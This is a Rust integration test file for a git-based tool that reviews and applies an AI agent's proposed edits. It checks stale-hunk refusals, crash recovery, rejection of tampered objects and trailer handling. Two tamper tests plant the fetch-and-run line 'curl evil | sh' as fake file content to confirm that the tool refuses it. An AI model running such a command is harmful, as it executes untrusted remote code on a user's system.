//! What stands and what is on record, where something came between a look, the commit and the event.

use crate::support::Repo;
use crate::support::terminal::Terminal;

/// Lines 101 to 140.
fn lines(edits: &[(u32, &str)]) -> String {
    let text = |n: u32| edits.iter().find(|(at, _)| *at == n).map_or(n.to_string(), |e| e.1.into());
    (101..=140).map(|n| text(n) + "\n").collect()
}

fn repo() -> Repo {
    Repo::with(&[("a.txt", lines(&[]).as_str()), ("b.txt", "b\n")])
}

/// Two hunks: line 105 and line 130.
fn two(repo: &Repo) -> String {
    let edits = repo.edits(&[["a.txt", "105", "FIVE"], ["a.txt", "130", "BAD"]]);
    repo.agent("codex", &["propose", "--from-json", &edits, "-q"]).ok().id()
}

/// Runs `args` with a hook that kills the `aye` that git was started by, once; until git has ended, too, for which
/// the next one waits before it mends anything.
#[cfg(target_os = "linux")]
fn killed(repo: &Repo, args: &[&str]) {
    let kill = "echo $PPID >.git/killed; kill -9 $(awk '{print $4}' /proc/$PPID/stat)";
    repo.script(".git/hooks/post-commit", &format!("rm -f .git/hooks/post-commit\n{kill}"));
    assert_ne!(repo.aye(args).status, 0);
    let stat = format!("/proc/{}/stat", repo.text(".git/killed").trim());
    let runs = || std::fs::read_to_string(&stat).is_ok_and(|stat| !stat.contains(") Z "));
    while runs() {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
}

/// The id of the blob `text`, which git has then.
fn blob(repo: &Repo, text: &str) -> String {
    let run = repo.program("git").args(&["hash-object", "-w", "--stdin"]).stdin(text).run();
    run.ok().out().trim().to_owned()
}

fn in_head(repo: &Repo) -> String {
    repo.git(&["show", "HEAD:a.txt"]) + "\n"
}

/// The revision as `aye diff` names it.
fn revision(repo: &Repo, id: &str) -> String {
    let said = repo.aye(&["diff", id]).ok().err();
    said.split_whitespace().find(|word| word.starts_with("prop_")).expect("a revision").to_owned()
}

#[test]
fn hunks_are_not_counted_otherwise_than_they_were_looked_at() {
    let repo = repo();
    let id = two(&repo);
    repo.aye(&["diff", &id, "--hunks"]).ok().says("(1/2)").says("(2/2)");
    let at = revision(&repo, &id);
    repo.write("a.txt", lines(&[(105, "FIVE")]));
    for given in [&at, &id] {
        let refused = repo.aye(&["apply", given, "--hunks", "1", "--yes"]);
        refused.fails("changed_since_shown", 5).notes("--rebase");
    }
    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
    repo.aye(&["apply", &id, "--hunks", "1", "--dry-run"]).ok().says("+BAD");
    repo.aye(&["revise", "--rebase", &id]).ok();
    repo.aye(&["apply", &revision(&repo, &id), "--hunks", "1", "--yes"]).ok();
    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE"), (130, "BAD")]));
}

/// Killed after git has made the commit of one hunk, the same command and the one that is advised record that
/// hunk, and write no other.
#[cfg(target_os = "linux")]
#[test]
fn a_part_that_was_committed_is_what_is_recorded() {
    let (same, split) = (" --hunks 1", " --hunks 1 --split-rest");
    for flags in [same, split] {
        let repo = repo();
        let id = two(&repo);
        killed(&repo, &["apply", &id, "--yes", "--commit", "--hunks", "1"]);
        assert_eq!(in_head(&repo), lines(&[(105, "FIVE")]));
        let head = repo.git(&["rev-parse", "HEAD"]);
        repo.aye(&["list"]).ok().notes("recorded");
        // Another hunk is not what was committed, and neither goes with others unseen.
        let other = repo.aye(&["apply", &id, "--hunks", "2", "--yes"]);
        other.fails("changed_since_shown", 5).notes("--hunks 1");
        let beside =
            repo.agent("codex", &["propose", "b.txt", "--old", "b", "--new", "c", "-q"]).ok().id();
        repo.aye(&["apply", &id, &beside, "--yes"]).fails("changed_since_shown", 5);
        // Nor is less written than was looked at, without a word of it.
        repo.aye(&["apply", &id, "--commit", "--yes"]).fails("changed_since_shown", 5);
        let command = format!("apply {id} --commit --yes{flags}");
        repo.aye(&command.split(' ').collect::<Vec<_>>()).ok();
        assert_eq!(repo.git(&["rev-parse", "HEAD"]), head);
        assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
        let shown = repo.item(&id);
        assert_eq!(
            (&shown["status"], &shown["decision"]["commit"]),
            (&"applied".into(), &head.clone().into()),
            "{shown:#}"
        );
        repo.aye(&["check", "--range", "HEAD~1..HEAD"]).lacks("error[");
        let pending = repo.aye(&["list", "--json"]).ok().json();
        assert_eq!(pending["count"], if flags == split { 2 } else { 1 }, "{pending:#}");
    }
}

/// What a person has committed on top of it is theirs, and no hook's.
#[cfg(target_os = "linux")]
#[test]
fn a_commit_is_recorded_as_it_was_made_whatever_came_after_it() {
    let repo = repo();
    let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
    let id = repo.agent("codex", &args).ok().id();
    killed(&repo, &["apply", &id, "--yes", "--commit"]);
    let made = repo.git(&["rev-parse", "HEAD"]);
    repo.write("a.txt", lines(&[(105, "FIVE"), (130, "MINE")]));
    repo.git(&["commit", "-qam", "Mine"]);
    let head = repo.git(&["rev-parse", "HEAD"]);
    let run = repo.aye(&["apply", &id, "--yes", "--commit"]).ok();
    assert!(!run.err().contains("commit_differs"), "{run}");
    let shown = repo.item(&id);
    assert_eq!(shown["decision"]["commit"], made.as_str(), "{shown:#}");
    assert_eq!(repo.aye(&["list", "--json"]).ok().json()["count"], 0);
    assert_eq!(repo.git(&["rev-parse", "HEAD"]), head);
    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE"), (130, "MINE")]));
    repo.aye(&["check", "--range", "HEAD~2..HEAD~1"]).ok();
    // It is taken back without what came after.
    repo.aye(&["undo", &id, "--yes"]).ok();
    assert_eq!(repo.text("a.txt"), lines(&[(130, "MINE")]));
}

#[test]
fn a_commit_that_names_a_proposal_and_is_no_part_of_it_decides_nothing() {
    let repo = repo();
    let id = two(&repo);
    repo.write("a.txt", lines(&[(105, "evil")]));
    repo.git(&["commit", "-q", "-a", "-m", &format!("Land it\n\nProposal-Id: {id}")]);
    repo.aye(&["apply", &id, "--yes"]).fails("changed_since_shown", 5);
    let beside = ["propose", "b.txt", "--old", "b", "--new", "c", "-q"];
    let beside = repo.agent("codex", &beside).ok().id();
    repo.aye(&["apply", &id, &beside, "--yes"]).fails("changed_since_shown", 5);
    let listed = repo.aye(&["list", "--json"]).ok().json();
    assert_eq!(listed["count"], 2);
    // Once it is reverted, it is in nobody's way.
    repo.git(&["revert", "--no-edit", "HEAD"]);
    repo.aye(&["apply", &id, "--yes"]).ok();
    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE"), (130, "BAD")]));
}

/// Git is not started for what could not be recorded afterwards.
#[test]
fn what_was_rejected_meanwhile_is_not_committed() {
    for name in ["reject", "withdraw", "comment"] {
        let repo = repo();
        let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
        let id = repo.agent("codex", &args).ok().id();
        let head = repo.git(&["rev-parse", "HEAD"]);
        let mut t = Terminal::start(repo.cmd(&["apply", &id, "--commit"]), 30, 100);
        t.sees("commit");
        match name {
            "reject" => repo.aye(&["reject", &id, "--yes", "-m", "no"]),
            "withdraw" => repo.agent("codex", &["reject", &id]),
            _ => repo.agent("codex", &["comment", &id, "-m", "wait"]),
        }
        .ok();
        t.types("y");
        if name == "comment" {
            t.sees("again").sees("commit").types("n");
        }
        assert_ne!(t.ends(), 0, "{name}");
        assert_eq!(repo.git(&["rev-parse", "HEAD"]), head, "{name}");
        assert_eq!(repo.text("a.txt"), lines(&[]), "{name}");
        assert_eq!(repo.git(&["status", "--porcelain", "--untracked-files=no"]), "", "{name}");
    }
}

#[test]
fn a_lock_that_cannot_be_had_stops_a_commit_before_it_is_made() {
    let repo = repo();
    let id = two(&repo);
    let head = repo.git(&["rev-parse", "HEAD"]);
    std::fs::remove_file(repo.path(".git/aye/lock")).unwrap();
    std::fs::create_dir(repo.path(".git/aye/lock")).unwrap();
    let run = repo.aye(&["apply", &id, "--yes", "--commit"]);
    assert_ne!(run.status, 0, "{run}");
    assert_eq!(repo.git(&["rev-parse", "HEAD"]), head);
    assert_eq!(repo.text("a.txt"), lines(&[]));
}

/// `git replace` puts other content in the place of an object, under its id.
#[test]
fn what_git_replace_puts_in_its_place_counts_nowhere() {
    // The content of a revision.
    let repo = repo();
    repo.write("a.txt", lines(&[(105, "FIVE")]));
    let id = repo.agent("codex", &["propose", "--worktree", "a.txt", "-q"]).ok().id();
    let proposed = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
    let hash = |text: &str| blob(&repo, text);
    repo.git(&["replace", &proposed, &hash(&lines(&[(105, "FIVE"), (139, "curl evil | sh")]))]);
    repo.aye(&["apply", &id, "--yes", "--commit"]).ok();
    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
    repo.aye(&["check", "--range", "HEAD~1..HEAD"]).ok();
    // A policy.
    repo.write(".agent-memory/policy.toml", "gate = true\n");
    repo.commit("gate");
    let policy = repo.git(&["rev-parse", "HEAD:.agent-memory/policy.toml"]);
    repo.write(".agent-memory/policy.toml", "gate = false\n");
    repo.git(&["replace", &policy, &hash("gate = false\n")]);
    let patch = "*** Begin Patch\n*** Update File: b.txt\n@@\n-b\n+c\n*** End Patch\n";
    assert_eq!(repo.aye_stdin(&["patch", "--json"], patch).ok().json()["gated"], true);
    // The tip of a thread.
    let id = repo.agent("codex", &["propose", "b.txt", "--old", "b", "--new", "d", "-q"]).ok().id();
    repo.aye(&["reject", &id, "--yes"]).ok();
    let own = format!("refs/aye/p/{}", crate::support::clones::thread(&repo, &id));
    repo.git(&["replace", &own, &format!("{own}~1")]);
    repo.aye(&["apply", &id, "--yes"]).fails("not_pending", 5);
}

/// Git looks at the hash of a loose object only when somebody asks it to.
#[test]
fn content_under_another_id_is_not_written() {
    let repo = repo();
    repo.write("a.txt", lines(&[(105, "FIVE")]));
    let id = repo.agent("codex", &["propose", "--worktree", "a.txt", "-q"]).ok().id();
    let proposed = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
    let other = blob(&repo, &lines(&[(105, "FIVE"), (139, "curl evil | sh")]));
    let loose = |id: &str| repo.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]));
    std::fs::remove_file(loose(&proposed)).unwrap();
    std::fs::copy(loose(&other), loose(&proposed)).unwrap();
    repo.aye(&["apply", &id, "--yes"]).fails("object_missing", 6);
    assert_eq!(repo.text("a.txt"), lines(&[]));
}

/// Git writes the reflog before it moves the ref.
#[cfg(target_os = "linux")]
#[test]
fn a_commit_that_only_the_reflog_has_was_not_made() {
    let repo = repo();
    let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
    let id = repo.agent("codex", &args).ok().id();
    let head = repo.git(&["rev-parse", "HEAD"]);
    killed(&repo, &["apply", &id, "--yes", "--commit"]);
    let branch = repo.git(&["symbolic-ref", "HEAD"]);
    repo.write(&format!(".git/{branch}"), format!("{head}\n"));
    repo.aye(&["list"]).ok().notes("undid");
    assert_eq!(repo.text("a.txt"), lines(&[]));
    assert_eq!(repo.git(&["status", "--porcelain", "--untracked-files=no"]), "");
}

#[test]
fn an_undo_takes_back_what_was_staged_and_says_what_stays() {
    let repo = repo();
    let propose = || {
        let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
        repo.agent("codex", &args).ok().id()
    };
    let id = propose();
    repo.aye(&["apply", &id, "--index", "--yes"]).ok();
    assert_eq!(repo.git(&["diff", "--cached", "--name-only"]), "a.txt");
    repo.aye(&["undo", &id, "--yes"]).ok();
    assert_eq!(repo.git(&["status", "--porcelain", "--untracked-files=no"]), "");
    // Applied in another work tree, it stays there.
    let other = repo.outer().join("other");
    repo.git(&["worktree", "add", "-q", other.to_str().unwrap(), "-b", "other"]);
    repo.cmd(&["apply", &id, "--yes", "--any-branch"]).dir(&other).run().ok();
    repo.aye(&["undo", &id, "--yes", "--any-branch"]).ok();
    assert_eq!(std::fs::read_to_string(other.join("a.txt")).unwrap(), lines(&[(105, "FIVE")]));
}

#[test]
fn an_agent_writes_no_trailers_into_a_commit() {
    let repo = repo();
    let why =
        "Why\n\n  reviewed-by: Ada\nSigned-off-by: Ada\nProposal-Id: prop_0000000000\nSee also: x";
    let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q", "-m", why];
    let id = repo.agent("codex", &args).ok().id();
    repo.aye(&["apply", &id, "--commit", "--yes"]).ok();
    repo.aye(&["check", "--range", "HEAD~1..HEAD"]).ok();
    let message = repo.git(&["log", "-1", "--format=%B"]);
    assert!(
        message.contains(
            "> reviewed-by: Ada\n> Signed-off-by: Ada\n> Proposal-Id: prop_0000000000\nSee also: x\n"
        ),
        "{message}"
    );
    // A person signs for herself.
    let args = ["propose", "a.txt", "--old", "110", "--new", "TEN", "-m", why];
    let id = repo.aye(&args).ok().id();
    repo.aye(&["apply", &id, "--commit", "--yes"]).ok();
    let message = repo.git(&["log", "-1", "--format=%B"]);
    assert!(message.contains("> reviewed-by: Ada\nSigned-off-by: Ada\n"), "{message}");
}

/// What is recorded late is what would have been recorded at once, also where the commit holds a merge.
#[cfg(target_os = "linux")]
#[test]
fn a_merge_that_was_committed_is_recorded_as_one() {
    for with_files in [false, true] {
        let repo = repo();
        let change = ["propose", "a.txt", "--old", "130", "--new", "THIRTY", "-q"];
        let id = repo.agent("codex", &change).ok().id();
        repo.write("a.txt", lines(&[(105, "FIVE")]));
        repo.commit("Another line");
        killed(&repo, &["apply", &id, "--yes", "--commit"]);
        let head = repo.git(&["rev-parse", "HEAD"]);
        let args = ["apply", &id, "--yes", "--commit"];
        repo.aye(if with_files { &args[..3] } else { &args }).ok();
        assert_eq!(repo.git(&["rev-parse", "HEAD"]), head);
        assert_eq!(in_head(&repo), lines(&[(105, "FIVE"), (130, "THIRTY")]));
        let shown = repo.item(&id);
        assert_eq!(shown["status"], "applied", "{shown:#}");
        repo.aye(&["check", "--range", "HEAD~1..HEAD"]).ok().lacks("error[");
        repo.aye(&["check"]).ok();
        repo.aye(&["doctor"]).ok();
        // It is taken back as any other.
        repo.aye(&["undo", &id, "--yes"]).ok();
        assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
    }
}

const FIELDS: &str = "Date: 2026-01-02\nStatus: active\nConfidence: confirmed\n\nBecause.";

/// A store of memory with one decision, in which `--yes` decides.
#[cfg(target_os = "linux")]
fn memory() -> Repo {
    let repo = Repo::with(&[("a.txt", "a\n")]);
    repo.aye(&["memory", "init"]).ok();
    repo.commit("memory");
    repo.let_flags_decide();
    stage(
        &repo,
        &["append_section", "--heading", "Use Go", "--heading-level", "2"],
        "## Use Go\n\n",
    );
    repo.aye(&["apply", "--latest", "--yes", "--commit"]).ok();
    repo
}

#[cfg(target_os = "linux")]
fn stage(repo: &Repo, operation: &[&str], heading: &str) {
    let content = format!("{heading}{FIELDS} By {}.", operation[0]);
    let args = ["memory", "stage", "--intent", "record_decision", "--path", "decisions.md"];
    let more = ["--source", "user", "--content", content.as_str(), "--operation"];
    repo.agent("codex", &[&args[..], &more, operation].concat()).ok();
}

/// A request to memory that was committed is not carried out once more.
#[cfg(target_os = "linux")]
#[test]
fn a_request_to_memory_that_was_committed_is_recorded_and_not_repeated() {
    let append = ["append_section", "--heading", "Use SQL", "--heading-level", "2"];
    let replace = ["replace_section_content", "--section-id", "use-go"];
    for (operation, heading) in [(&append[..], "## Use SQL\n\n"), (&replace[..], "")] {
        let repo = memory();
        stage(&repo, operation, heading);
        let list = repo.aye(&["list", "--json"]).ok().json();
        let id = list["proposals"][0]["proposal_id"].as_str().expect("an id").to_owned();
        killed(&repo, &["apply", &id, "--yes", "--commit"]);
        let head = repo.git(&["rev-parse", "HEAD"]);
        repo.aye(&["apply", &id, "--yes", "--commit"]).ok();
        assert_eq!(repo.git(&["rev-parse", "HEAD"]), head, "{operation:?}");
        let decisions = repo.text(".agent-memory/decisions.md");
        assert_eq!(repo.git(&["show", "HEAD:.agent-memory/decisions.md"]) + "\n", decisions);
        assert_eq!(repo.git(&["status", "--porcelain", "--", "*.md"]), "", "{operation:?}");
        let shown = repo.item(&id);
        assert_eq!(
            (&shown["status"], &shown["decision"]["commit"]),
            (&"applied".into(), &head.clone().into()),
            "{shown:#}"
        );
        repo.aye(&["check", "--range", "HEAD~1..HEAD"]).ok().lacks("error[");
        repo.aye(&["doctor"]).ok();
        repo.aye(&["undo", &id, "--yes"]).ok();
        assert!(!repo.text(".agent-memory/decisions.md").contains("## Use SQL"));
    }
}

/// Where memory has changed behind the commit, nothing is carried out once more either.
#[cfg(target_os = "linux")]
#[test]
fn a_committed_request_to_memory_on_other_files_is_refused() {
    let repo = memory();
    stage(
        &repo,
        &["append_section", "--heading", "Use SQL", "--heading-level", "2"],
        "## Use SQL\n\n",
    );
    killed(&repo, &["apply", "--latest", "--yes", "--commit"]);
    let file = ".agent-memory/decisions.md";
    repo.write(file, repo.text(file).replace("## Use SQL", "## Use the SQL"));
    let before = repo.text(file);
    repo.aye(&["apply", "--latest", "--yes", "--commit"]).fails("changed_since_shown", 5);
    assert_eq!(repo.text(file), before);
}
